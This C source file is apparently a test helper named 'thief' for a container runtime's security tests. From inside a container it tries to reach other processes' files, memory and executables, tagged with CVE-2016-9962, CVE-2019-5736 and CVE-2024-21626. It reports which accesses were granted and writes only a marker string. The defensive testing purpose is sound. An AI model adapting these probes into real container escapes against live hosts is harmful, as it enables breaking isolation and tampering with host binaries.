/*
 * The attacker inside a container: reaches for other processes' files, memory and program.
 *
 * Prints every access that was granted; "thief: done" with counts ends each run, so that a test
 * can tell "nothing was granted" from "never tried". Runs as the strongest user that the test can
 * give it (root with CAP_SYS_PTRACE in the namespace it shares with its victim).
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static unsigned tried;
static unsigned granted;

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void report(const char *what, const char *detail, int ok)
{
	tried++;
	granted += ok != 0;
	if (ok)
		printf("granted %s %s\n", what, detail);
}

static void report_open(pid_t pid, const char *name, int flags)
{
	char path[PATH_MAX], link[PATH_MAX];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	n = readlink(path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	fd = open(path, flags | O_NONBLOCK | O_NOCTTY);
	report(path, link, fd >= 0);
	if (fd >= 0)
		close(fd);
}

static void steal_fds(pid_t pid)
{
	/* That numbers can be listed by root is the kernel's choice; what is behind them counts. */
	for (int fd = 0; fd < 64; fd++) {
		char name[32];

		snprintf(name, sizeof(name), "fd/%d", fd);
		report_open(pid, name, O_RDONLY);
		report_open(pid, name, O_PATH);
	}
}

static void steal_pidfd(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int fd = 0; pidfd >= 0 && fd < 64; fd++) {
		char detail[32];
		int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		snprintf(detail, sizeof(detail), "fd %d", fd);
		report("pidfd_getfd", detail, got >= 0);
		if (got >= 0)
			close(got);
	}
}

static void steal_memory(pid_t pid)
{
	unsigned long base = 0x400000;
	char buf[8];
	struct iovec local = { buf, sizeof(buf) }, remote = { (void *)base, sizeof(buf) };
	ssize_t n;

	n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
	/* EFAULT says that the check was passed and only the address was a bad guess. */
	report("process_vm_readv", "", n >= 0 || errno == EFAULT);
	report("ptrace", "seize", ptrace(PTRACE_SEIZE, pid, 0, 0) == 0);
}

/* Every way into one process (CVE-2016-9962). */
static int attack_pid(char **args)
{
	static const char *const names[] = { "exe",	"cwd",	   "root",  "mem",     "environ",
					     "maps",	"ns/mnt",  "ns/net" };
	pid_t pid = args[0] ? atoi(args[0]) : 0;
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d", pid);
	if (pid <= 0 || stat(path, &st)) {
		printf("thief: no process %d\n", pid);
		return 1;
	}
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		report_open(pid, names[i], O_RDONLY);
	report_open(pid, "mem", O_RDWR);
	report_open(pid, "root/", O_PATH);
	report_open(pid, "cwd/", O_PATH);
	steal_fds(pid);
	steal_pidfd(pid);
	steal_memory(pid);
	printf("thief: done tried %u granted %u\n", tried, granted);
	return 0;
}

/* Keeps trying to turn a read-only fd of a program file into a writable one (CVE-2019-5736). */
static int reopen_for_writing(int fd, double until)
{
	char path[64];
	int got;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do {
		got = open(path, O_WRONLY);
		if (got >= 0) {
			/*
			 * A sealed memfd can be opened, but neither written nor cut. The text is
			 * seen by the checksum of the copy that the test runs.
			 */
			ssize_t n = write(got, "#!/tripped\n", 11);
			int cut = ftruncate(got, 11);

			close(got);
			if (n > 0 || cut == 0) {
				printf("granted write %s\n", path);
				return 1;
			}
		}
	} while (now() < until);
	return 0;
}

static int attack_own_exe(char **args)
{
	double seconds = args[0] ? atof(args[0]) : 0.3;
	int fd = open("/proc/self/exe", O_RDONLY);

	if (fd < 0) {
		printf("thief: own exe %s\n", strerrorname_np(errno));
		return 0;
	}
	granted += (unsigned)reopen_for_writing(fd, now() + seconds);
	printf("thief: done tried 1 granted %u\n", granted);
	return 0;
}

/* True if the file behind fd is the one that has its name in this container's root. */
static int is_of_this_root(int fd)
{
	char path[64], link[PATH_MAX];
	struct stat theirs, ours;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	return !fstat(fd, &theirs) && !stat(link, &ours) && theirs.st_dev == ours.st_dev &&
	       theirs.st_ino == ours.st_ino;
}

struct watch {
	double until;
	unsigned long seen;
	unsigned long exe_opened;
	int held[256];
	size_t held_count;
};

static void watch_exe(struct watch *watch, pid_t pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (is_of_this_root(fd)) {
		close(fd);
		return;
	}
	watch->exe_opened++;
	if (watch->held_count < sizeof(watch->held) / sizeof(watch->held[0]))
		watch->held[watch->held_count++] = fd;
	else
		close(fd);
}

/* The directories that a runtime's process may still have of the host (CVE-2024-21626). */
static void watch_dirs(pid_t pid, dev_t our_dev, ino_t our_ino)
{
	static const char *const names[] = { "root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6",
					     "fd/7", "fd/8", "fd/9", "fd/10", "fd/11" };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char path[64], link[PATH_MAX];
		struct stat st;
		ssize_t n;
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		fd = open(path, O_PATH | O_DIRECTORY);
		if (fd < 0)
			continue;
		n = readlink(path, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = '\0';
		if (!fstat(fd, &st) && !(st.st_dev == our_dev && st.st_ino == our_ino) &&
		    !is_of_this_root(fd))
			report(path, link, 1);
		close(fd);
	}
}

static void watch_pid(struct watch *watch, pid_t pid, const struct stat *root)
{
	watch->seen++;
	/* The window is a few system calls wide: several tries at the same pid. */
	for (int i = 0; i < 8; i++) {
		watch_exe(watch, pid);
		watch_dirs(pid, root->st_dev, root->st_ino);
	}
}

/* Waits for processes that join this pid namespace and pounces on each. */
static int watch_processes(char **args)
{
	struct watch watch = { .until = now() + (args[0] ? atof(args[0]) : 10.0) };
	struct stat root;
	pid_t last = getpid();

	if (stat("/", &root))
		return 1;
	printf("thief: watching\n");
	fflush(stdout);
	while (now() < watch.until && access("/res/stop", F_OK)) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;
		pid_t top = last;

		while (dir && (entry = readdir(dir))) {
			pid_t pid = isdigit((unsigned char)entry->d_name[0]) ? atoi(entry->d_name) : 0;

			if (pid > last)
				watch_pid(&watch, pid, &root);
			if (pid > top)
				top = pid;
		}
		if (dir)
			closedir(dir);
		/* The newest pid is looked at again: it may have been too early. */
		last = top > last ? top - 1 : last;
		for (size_t i = 0; i < watch.held_count; i++)
			if (reopen_for_writing(watch.held[i], 0)) {
				granted++;
				watch.held_count = 0;
			}
	}
	printf("thief: done seen %lu exe-opened %lu granted %u\n", watch.seen, watch.exe_opened,
	       granted);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 1 && !strcmp(argv[1], "pid"))
		return attack_pid(argv + 2);
	if (argc > 1 && !strcmp(argv[1], "exe"))
		return attack_own_exe(argv + 2);
	if (argc > 1 && !strcmp(argv[1], "watch"))
		return watch_processes(argv + 2);
	fprintf(stderr, "thief: pid N | exe [SECONDS] | watch [SECONDS]\n");
	return 2;
}
